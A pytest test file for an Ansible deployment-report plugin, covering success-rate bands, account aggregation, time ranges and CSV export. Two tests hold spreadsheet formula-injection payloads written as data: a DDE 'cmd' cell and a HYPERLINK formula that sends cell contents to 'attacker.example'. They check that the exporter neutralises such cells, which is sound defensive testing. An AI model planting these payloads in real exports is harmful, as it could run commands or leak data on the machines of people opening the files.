"""The drs_report role's logic: time range, colour bands, per-account aggregation and the CSV export."""

import csv
import io
from datetime import datetime, timezone

import pytest

from ansible_collections.drs_orchestration.agent_deployer.plugins.plugin_utils import report


def _deployment(account_id, attempted, installed, already=0, failed=0, skipped=0, started="2025-03-01T10:00:00Z",
                deployment_id="d-1", status="partial", failed_instances=(), name=None):
    succeeded = installed + already
    return {
        "deployment_id": deployment_id,
        "timestamp": f"{started}#{account_id}",
        "source_account_id": account_id,
        "source_account_name": name or f"account {account_id}",
        "deployment_pattern": "cross-account",
        "status": status,
        "started_at": started,
        "attempted": attempted,
        "installed": installed,
        "already_registered": already,
        "failed": failed,
        "skipped": skipped,
        "success_rate": succeeded / attempted if attempted else None,
        "failed_instances": list(failed_instances),
    }


@pytest.mark.parametrize("rate, band", [
    (1.0, "green"), (0.95, "green"), (19 / 20, "green"), (0.9499, "yellow"), (0.94999999, "yellow"),
    (0.8, "yellow"), (4 / 5, "yellow"), (0.7999, "red"), (0.0, "red"), (None, "none"), ("0.95", "green"),
])
def test_colour_bands_at_the_95_and_80_percent_boundaries(rate, band):
    assert report.success_band(rate) == band


@pytest.mark.parametrize("succeeded, attempted, band", [
    (57, 60, "green"), (56, 60, "yellow"), (48, 60, "yellow"), (47, 60, "red"), (8, 10, "yellow"), (95, 100, "green"),
])
def test_rates_computed_from_counts_are_not_put_one_band_lower_by_rounding(succeeded, attempted, band):
    assert report.success_band(succeeded / attempted) == band


def test_account_rates_sum_the_counts_of_all_their_deployments():
    deployments = [
        _deployment("111111111111", 10, 10, status="success", deployment_id="d-1"),
        _deployment("111111111111", 10, 6, already=2, failed=2, deployment_id="d-2", started="2025-03-01T12:00:00Z"),
        _deployment("222222222222", 20, 19, failed=1, skipped=3, deployment_id="d-1"),
        _deployment("333333333333", 0, 0, skipped=4, deployment_id="d-3", status="failed"),
    ]
    rows = {row["account_id"]: row for row in report.account_rows(deployments)}
    assert list(rows) == ["111111111111", "222222222222", "333333333333"]
    first = rows["111111111111"]
    assert (first["deployments"], first["attempted"], first["installed"], first["already_registered"], first["failed"]) \
        == (2, 20, 16, 2, 2)
    assert first["success_rate"] == pytest.approx(0.9) and first["band"] == "yellow"
    assert first["last_status"] == "partial" and first["last_deployment_at"] == "2025-03-01 12:00:00"
    assert rows["222222222222"]["success_rate"] == pytest.approx(0.95) and rows["222222222222"]["band"] == "green"
    assert rows["222222222222"]["skipped"] == 3
    # nothing attempted: no rate, grey rather than red
    assert rows["333333333333"]["success_rate"] is None and rows["333333333333"]["band"] == "none"


def test_report_data_summarizes_groups_failures_and_orders_the_timeline():
    failure = {"instance_id": "i-0a", "name": "web", "account_id": "222222222222", "region": "us-east-1",
               "wave": 2, "priority": "high", "ssm_status": "Failed", "error_category": "network",
               "error_message": "timeout", "remediation": "open 443"}
    older = dict(failure, instance_id="i-0b", wave=1)
    deployments = [
        _deployment("222222222222", 4, 2, already=1, failed=1, deployment_id="d-2", started="2025-03-02T08:00:00Z",
                    failed_instances=[failure]),
        _deployment("111111111111", 5, 5, deployment_id="d-1", status="success"),
        _deployment("222222222222", 2, 1, failed=1, deployment_id="d-1", failed_instances=[older]),
    ]
    data = report.report_data(deployments, filters={"since": "a", "until": "b"}, generated_at="now")
    summary = data["summary"]
    assert summary["deployments"] == 2 and summary["records"] == 3 and summary["accounts"] == 2
    assert (summary["attempted"], summary["installed"], summary["already_registered"], summary["failed"]) == (11, 8, 1, 2)
    assert summary["success_rate"] == pytest.approx(9 / 11) and summary["band"] == "yellow"
    assert summary["failed_instances"] == 2 and summary["statuses"] == {"success": 1, "partial": 2, "failed": 0}
    assert [row["band"] for row in data["accounts"]] == ["green", "red"]  # 5/5, then 4/6
    groups = data["failures_by_account"]
    assert [group["account_id"] for group in groups] == ["222222222222"]
    # newest deployment first, each failure with its deployment's id and account name
    assert [entry["instance_id"] for entry in groups[0]["failures"]] == ["i-0a", "i-0b"]
    assert groups[0]["failures"][0]["deployment_id"] == "d-2"
    assert groups[0]["account_name"] == "account 222222222222"
    assert [entry["when"] for entry in data["timeline"]] == [
        "2025-03-02 08:00:00", "2025-03-01 10:00:00", "2025-03-01 10:00:00"]
    assert data["filters"] == {"since": "a", "until": "b"} and data["generated_at"] == "now"


def test_an_empty_history_gives_an_empty_report():
    data = report.report_data([])
    assert data["summary"]["deployments"] == 0 and data["summary"]["success_rate"] is None
    assert data["accounts"] == [] and data["failures_by_account"] == [] and data["timeline"] == []


def test_csv_quotes_commas_quotes_and_newlines():
    failure = {
        "deployment_id": "d-1", "timestamp": "2025-03-01T10:00:00Z#111111111111", "source_account_id": "111111111111",
        "source_account_name": 'Prod, "EU"', "account_id": "111111111111", "region": "eu-west-1",
        "instance_id": "i-1", "name": "db,primary", "wave": 3, "priority": None, "ssm_status": "Failed",
        "error_category": "agent_install", "error_message": 'line one\nline "two", end',
        "remediation": "=cmd|' /C calc'!A0",
    }
    text = report.failures_csv([failure])
    assert text.startswith(",".join(report.FAILURE_CSV_COLUMNS) + "\r\n")
    assert '"Prod, ""EU"""' in text and '"db,primary"' in text and '"line one\nline ""two"", end"' in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["account_name"] == 'Prod, "EU"' and row["name"] == "db,primary"
    assert row["error_message"] == 'line one\nline "two", end'
    assert row["wave"] == "3" and row["priority"] == ""
    assert row["remediation"] == "'" + failure["remediation"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(start):
    hostile = start + 'HYPERLINK("http://attacker.example/?"&A1,"click")'
    failure = {"deployment_id": "d-1", "account_id": "111111111111", "instance_id": "i-1", "name": hostile,
               "error_message": hostile, "wave": -1, "error_category": "unknown"}
    row = next(csv.DictReader(io.StringIO(report.failures_csv([failure]), newline="")))
    assert row["name"] == row["error_message"] == "'" + hostile
    # numbers are not text a spreadsheet could run; they stay as they are, like ordinary text does
    assert row["wave"] == "-1" and row["instance_id"] == "i-1" and row["error_category"] == "unknown"


def test_csv_of_no_failure_is_the_header_alone():
    assert report.failures_csv([]) == ",".join(report.FAILURE_CSV_COLUMNS) + "\r\n"


def test_flattened_failures_carry_their_deployment():
    deployment = _deployment("111111111111", 1, 0, failed=1, failed_instances=[{"instance_id": "i-1", "wave": 1}])
    (entry,) = report.flatten_failures([deployment, _deployment("222222222222", 1, 1)])
    assert entry == {"deployment_id": "d-1", "timestamp": deployment["timestamp"], "source_account_id": "111111111111",
                     "source_account_name": "account 111111111111", "deployment_pattern": "cross-account",
                     "instance_id": "i-1", "wave": 1}


def test_time_range_defaults_to_the_last_24_hours():
    assert report.time_range(now="2025-03-02T10:30:00Z") == {"since": "2025-03-01T10:30:00Z",
                                                             "until": "2025-03-02T10:30:00Z"}
    # since defaults to 24 hours before a given until; offsets and naive times are read as UTC
    assert report.time_range(until="2025-03-02T12:00:00+02:00") == {
        "since": "2025-03-01T10:00:00Z", "until": "2025-03-02T10:00:00Z"}
    assert report.time_range("2025-01-01", "2025-01-02T00:00:00") == {"since": "2025-01-01T00:00:00Z",
                                                                      "until": "2025-01-02T00:00:00Z"}
    default = report.time_range()
    until = datetime.strptime(default["until"], report.ISO_FORMAT).replace(tzinfo=timezone.utc)
    assert abs((datetime.now(timezone.utc) - until).total_seconds()) < 5


@pytest.mark.parametrize("since, until", [("2025-03-02T00:00:00Z", "2025-03-01T00:00:00Z"), ("yesterday", "")])
def test_time_range_rejects_a_reversed_or_unreadable_range(since, until):
    with pytest.raises(ValueError):
        report.time_range(since, until)


def test_percent():
    assert report.percent(None) == "n/a"
    assert report.percent(0.95) == "95.0%"
    assert report.percent(2 / 3, 0) == "67%"


def test_times_and_durations_for_people():
    assert report.display_time("2025-03-01T10:00:00.123Z#111111111111") == "2025-03-01 10:00:00"
    assert report.display_time("not a time") == "not a time"
    assert report.display_time(None) == ""
    assert [report.display_duration(value) for value in (None, 45, 60, 725.4, 7380)] == \
        ["", "45 s", "1 min", "12 min 5 s", "2 h 3 min"]
